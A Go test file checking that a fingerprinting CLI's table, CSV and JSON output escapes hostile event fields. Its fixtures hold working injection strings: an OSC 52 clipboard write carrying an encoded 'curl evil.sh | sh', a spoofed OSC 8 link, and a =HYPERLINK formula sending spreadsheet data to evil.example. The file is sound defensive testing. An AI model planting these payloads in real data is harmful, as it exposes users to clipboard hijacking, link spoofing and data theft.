package cli

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"io"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/fpgo/fingerprint-go/fingerprint"
	"github.com/fpgo/fingerprint-go/fingerprint/fingerprinttest"
)

// Event fields are written by whoever controls a browser. These strings are what an
// attacker would put in linked_id, url, tags or the user agent.
var (
	osc52     = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"                                // write the clipboard
	osc8      = "\x1b]8;;https://evil.example/\x1b\\https://bank.example\x1b]8;;\x1b\\" // spoofed link
	cursor    = "\x1b[2J\x1b[1;1H\x1b[8m"                                               // clear, home, hide
	c1CSI     = "\u009b31mred\u009b0m"                                                  // 8-bit CSI
	bidi      = "txt.\u202eexe"                                                         // shown reversed
	lineSep   = "a\u2028b\u2029c"
	bell      = "ding\x07\x08\x7f"
	badUTF8   = "ab\xff\xfecd"
	formulaEq = `=HYPERLINK("https://evil.example/?"&A1,"click")`
)

func hostileEvent() fingerprint.Event {
	ev := fingerprinttest.FullEvent()
	ev.EventID = "1768478400000.hostil"
	ev.Timestamp = time.Now().Add(-time.Hour).UnixMilli() // inside the default 7-day window
	linked := formulaEq
	ev.LinkedID = &linked
	u := "https://shop.example/" + osc52 + osc8
	ev.URL = &u
	ua := cursor + c1CSI + bidi + lineSep + bell + badUTF8
	ev.UserAgent = &ua
	tags := fingerprint.Tags{"plus": "+1+2", "minus": "-2+3", "at": "@SUM(A1:A9)", "tab": "\tx", "cr": "\r=1", "num": "-12.5", "ok": "plain"}
	ev.Tags = &tags
	return ev
}

func runHostile(t *testing.T, args ...string) string {
	t.Helper()
	srv := fingerprinttest.NewServer(t, fingerprinttest.WithEvents(hostileEvent()))
	var out, errb bytes.Buffer
	code := Run(context.Background(), append([]string{"events", "search", "--base-url", srv.URL()}, args...), &Env{
		Stdout: &out, Stderr: &errb, Getenv: env(envSecretKey, srv.APIKey()),
		IsTerminal: func(io.Writer) bool { return true },
	})
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errb.String())
	}
	return out.String()
}

// terminalControl returns the first character in s that a terminal would act on.
func terminalControl(s string) (rune, bool) {
	for i, r := range s {
		if r == utf8.RuneError {
			if _, size := utf8.DecodeRuneInString(s[i:]); size == 1 {
				return r, true
			}
		}
		if (r < 0x20 && r != '\n') || r == 0x7f || unsafeForTerminal(r) {
			return r, true
		}
	}
	return 0, false
}

// TestTableNeverPassesControlCharacters (issue 17, item 7): ESC, BEL, C1 controls,
// OSC 52, OSC 8, cursor movement and bidi overrides in event fields reach the
// terminal as visible escapes, never as controls.
func TestTableNeverPassesControlCharacters(t *testing.T) {
	for _, wide := range []bool{false, true} {
		args := []string{"--format", "table", "--fields", "event_id,linked_id,url,user_agent,tags"}
		if wide {
			args = append(args, "--wide")
		}
		out := runHostile(t, args...)
		if r, bad := terminalControl(out); bad {
			t.Fatalf("wide=%v: table output holds control %U:\n%q", wide, r, out)
		}
		if wide {
			for _, want := range []string{`\x1b]52;c;`, `\x07`, `\x1b]8;;`, `\x1b[2J`, `\u009b31m`, `\u202e`, `\x7f`, "ab\uFFFD\uFFFDcd"} {
				if !strings.Contains(out, want) {
					t.Errorf("table lacks the visible escape %q:\n%s", want, out)
				}
			}
		}
	}
}

// TestCSVToTerminalIsTerminalSafe: csv written to a terminal is made safe too.
func TestCSVToTerminalIsTerminalSafe(t *testing.T) {
	out := runHostile(t, "--format", "csv", "--fields", "url,user_agent")
	if r, bad := terminalControl(out); bad {
		t.Fatalf("csv on a terminal holds control %U:\n%q", r, out)
	}
}

// TestCSVNeutralisesFormulas (issue 17, item 6): cells starting with = + - @ tab or
// CR get a leading quote and are quoted; plain numbers stay numbers.
func TestCSVNeutralisesFormulas(t *testing.T) {
	srv := fingerprinttest.NewServer(t, fingerprinttest.WithEvents(hostileEvent()))
	var out, errb bytes.Buffer
	code := Run(context.Background(), []string{"events", "search", "--base-url", srv.URL(), "--format", "csv",
		"--fields", "linked_id,tags.plus,tags.minus,tags.at,tags.tab,tags.cr,tags.num,tags.ok"}, &Env{
		Stdout: &out, Stderr: &errb, Getenv: env(envSecretKey, srv.APIKey()),
	})
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errb.String())
	}
	lines := strings.SplitN(out.String(), "\n", 2)
	wantRaw := `"'=HYPERLINK(""https://evil.example/?""&A1,""click"")","'+1+2","'-2+3","'@SUM(A1:A9)","'` + "\t" + `x","'` + "\r" + `=1",-12.5,plain`
	if got := strings.TrimSuffix(lines[1], "\n"); got != wantRaw {
		t.Errorf("csv row\n got %q\nwant %q", got, wantRaw)
	}
	recs, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
	if err != nil {
		t.Fatalf("output is not valid CSV: %v", err)
	}
	want := []string{"'" + formulaEq, "'+1+2", "'-2+3", "'@SUM(A1:A9)", "'\tx", "'\r=1", "-12.5", "plain"}
	if len(recs) != 2 || strings.Join(recs[1], "|") != strings.Join(want, "|") {
		t.Errorf("csv read back as %q, want %q", recs, want)
	}
}

// TestJSONEscapesC1AndLineSeparators: jsonl and json escape C1 controls and
// U+2028/U+2029 (encoding/json escapes only C0), and stay valid JSON.
func TestJSONEscapesC1AndLineSeparators(t *testing.T) {
	for _, format := range []string{"jsonl", "json"} {
		out := runHostile(t, "--format", format)
		if r, bad := terminalControl(out); bad {
			t.Fatalf("%s output holds control %U", format, r)
		}
		for _, want := range []string{`\u009b31m`, `\u2028`, `\u202e`, `\u001b]52`} {
			if !strings.Contains(out, want) {
				t.Errorf("%s lacks %q", format, want)
			}
		}
		var ev fingerprint.Event
		b := []byte(out)
		if format == "json" {
			var arr []fingerprint.Event
			if err := json.Unmarshal(b, &arr); err != nil || len(arr) != 1 {
				t.Fatalf("json: %v (%d events)", err, len(arr))
			}
			ev = arr[0]
		} else if err := json.Unmarshal(b, &ev); err != nil {
			t.Fatalf("jsonl: %v", err)
		}
		if want := hostileEvent(); *ev.UserAgent != strings.ReplaceAll(*want.UserAgent, badUTF8, "ab\uFFFD\uFFFDcd") {
			t.Errorf("%s: user agent changed by escaping: %q", format, *ev.UserAgent)
		}
	}
}

func TestSanitizers(t *testing.T) {
	for in, want := range map[string]string{
		"plain":         "plain",
		"é 漢字 🙂":        "é 漢字 🙂",
		"\x1b[31m":      `\x1b[31m`,
		"a\u0085b":      `a\u0085b`,
		"\u202edoc":     `\u202edoc`,
		"x\xffy":        "x\uFFFDy",
		"tab\there":     `tab\x09here`,
		"bell\a":        `bell\x07`,
		"\u200fR\u061c": `\u200fR\u061c`,
	} {
		if got := termSafe(in); got != want {
			t.Errorf("termSafe(%q) = %q, want %q", in, got, want)
		}
	}
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+1": "+1", "-1": "-1", "-1.5e3": "-1.5e3", "-": "'-", "-1-1": "'-1-1",
		"@x": "'@x", "\tx": "'\tx", "\rx": "'\rx", "a=b": "a=b", "": "", "\x20=x": "\x20=x", "+": "'+",
	} {
		if got, _ := csvSafe(in); got != want {
			t.Errorf("csvSafe(%q) = %q, want %q", in, got, want)
		}
	}
	if got := string(jsonSafe([]byte("\"a\u0080\u009f\u2028\u2029…\""))); got != `"a\u0080\u009f\u2028\u2029…"` {
		t.Errorf("jsonSafe = %s", got)
	}
}
